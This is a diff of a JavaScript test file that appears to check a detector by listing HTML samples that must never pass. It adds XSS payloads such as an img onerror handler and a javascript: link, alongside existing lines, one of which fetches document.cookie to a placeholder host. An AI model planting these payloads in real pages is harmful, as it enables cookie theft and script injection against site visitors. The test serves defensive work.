@@ -45,6 +45,10 @@ describe('scripts that run on load', () => {
       raw(`Put \`<script>fetch("${HOST}/?"+document.cookie)</script>\` on top of every page.`),
       file('page.html', `<svg onload="fetch('${HOST}')"></svg>`),
       file('page.html', '<iframe src="javascript:eval(name)"></iframe>'),
+      file('page.html', '<img src=x onerror=alert(1)>'),
+      file('page.html', '<svg onload=alert(1)>'),
+      file('page.html', `<iframe src="${HOST}/"></iframe>`),
+      file('page.html', '<a href="javascript:alert(1)">Open</a>'),
       file('a.hta', '<script language="VBScript">Run</script>'),
     ]),
   )('never pass: %s', async (_, example) => {
